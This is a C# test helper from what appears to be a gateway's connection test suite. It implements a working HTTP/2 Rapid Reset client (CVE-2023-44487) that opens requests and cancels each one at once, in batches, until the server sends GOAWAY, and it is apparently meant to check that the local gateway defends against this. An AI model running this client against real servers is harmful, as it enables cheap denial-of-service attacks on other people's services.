using System.Buffers.Binary;
using System.Net.Security;
using System.Net.Sockets;

namespace ZeroShotOrleans.Gateway.Tests.Connections;

/// <summary>A client of HTTP/2 that opens requests and cancels them at once (CVE-2023-44487), which costs it next to nothing.</summary>
internal sealed class Http2Attacker : IDisposable
{
    private const byte Headers = 1;
    private const byte Reset = 3;
    private const byte Settings = 4;
    private const byte GoAway = 7;
    private const byte EndOfStreamAndHeaders = 0x5;
    private const int Cancelled = 8;
    private const int FrameHead = 9;

    private readonly TcpClient _socket = new();
    private readonly SslStream _stream;
    private Task _reading = Task.CompletedTask;
    private int? _goAway;

    private Http2Attacker(Uri address)
    {
        _socket.Connect(address.Host, address.Port);
        _stream = new SslStream(_socket.GetStream(), leaveInnerStreamOpen: false, (_, certificate, _, _) => certificate?.Subject == "CN=localhost");
    }

    /// <summary>The protocol that the server chose.</summary>
    public SslApplicationProtocol Protocol => _stream.NegotiatedApplicationProtocol;

    /// <summary>Why the server has ended the connection: an error code of HTTP/2. Null while it has not.</summary>
    public int? Ended => _goAway;

    public static async Task<Http2Attacker> ConnectAsync(Uri address, CancellationToken cancellationToken)
    {
        var attacker = new Http2Attacker(address);
        await attacker._stream.AuthenticateAsClientAsync(
            new SslClientAuthenticationOptions { TargetHost = "localhost", ApplicationProtocols = [SslApplicationProtocol.Http2] }, cancellationToken);
        await attacker._stream.WriteAsync("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8.ToArray(), cancellationToken);
        await attacker._stream.WriteAsync(Frame(Settings, 0, 0, []), cancellationToken);
        await attacker._stream.FlushAsync(cancellationToken);
        attacker._reading = attacker.ReadAsync(cancellationToken);
        return attacker;
    }

    /// <summary>Sends requests and cancels each, until the server ends the connection.</summary>
    /// <returns>How many were sent.</returns>
    public async Task<int> SendAsync(string path, int requests, CancellationToken cancellationToken)
    {
        // :method GET, :scheme https, :path, :authority
        byte[] head = [0x82, 0x87, 0x04, (byte)path.Length, .. System.Text.Encoding.ASCII.GetBytes(path), 0x01, 9, .. "localhost"u8];
        var reset = new byte[4];
        BinaryPrimitives.WriteInt32BigEndian(reset, Cancelled);
        const int Batch = 50;
        var sent = 0;
        try
        {
            while (sent < requests && _goAway is null)
            {
                List<byte> batch = [];
                for (var i = 0; i < Batch; i++, sent++)
                {
                    batch.AddRange(Frame(Headers, EndOfStreamAndHeaders, (2 * sent) + 1, head));
                    batch.AddRange(Frame(Reset, 0, (2 * sent) + 1, reset));
                }

                await _stream.WriteAsync(batch.ToArray(), cancellationToken);
                await _stream.FlushAsync(cancellationToken);
            }
        }
        catch (IOException)
        {
            // Ended by the server.
        }

        return sent;
    }

    /// <summary>Waits until the server has ended the connection.</summary>
    public Task WaitForEndAsync(CancellationToken cancellationToken) => _reading.WaitAsync(TimeSpan.FromSeconds(30), cancellationToken);

    public void Dispose()
    {
        _stream.Dispose();
        _socket.Dispose();
    }

    private async Task ReadAsync(CancellationToken cancellationToken)
    {
        var head = new byte[FrameHead];
        try
        {
            while (true)
            {
                await _stream.ReadExactlyAsync(head, cancellationToken);
                var body = new byte[(head[0] << 16) | (head[1] << 8) | head[2]];
                await _stream.ReadExactlyAsync(body, cancellationToken);
                if (head[3] == GoAway)
                {
                    _goAway = BinaryPrimitives.ReadInt32BigEndian(body.AsSpan(4));
                }
            }
        }
        catch (Exception exception) when (exception is IOException or ObjectDisposedException or OperationCanceledException)
        {
            // The connection is closed.
        }
    }

    private static byte[] Frame(byte type, byte flags, int stream, byte[] body)
    {
        var frame = new byte[FrameHead + body.Length];
        (frame[0], frame[1], frame[2], frame[3], frame[4]) = ((byte)(body.Length >> 16), (byte)(body.Length >> 8), (byte)body.Length, type, flags);
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        body.CopyTo(frame, FrameHead);
        return frame;
    }
}
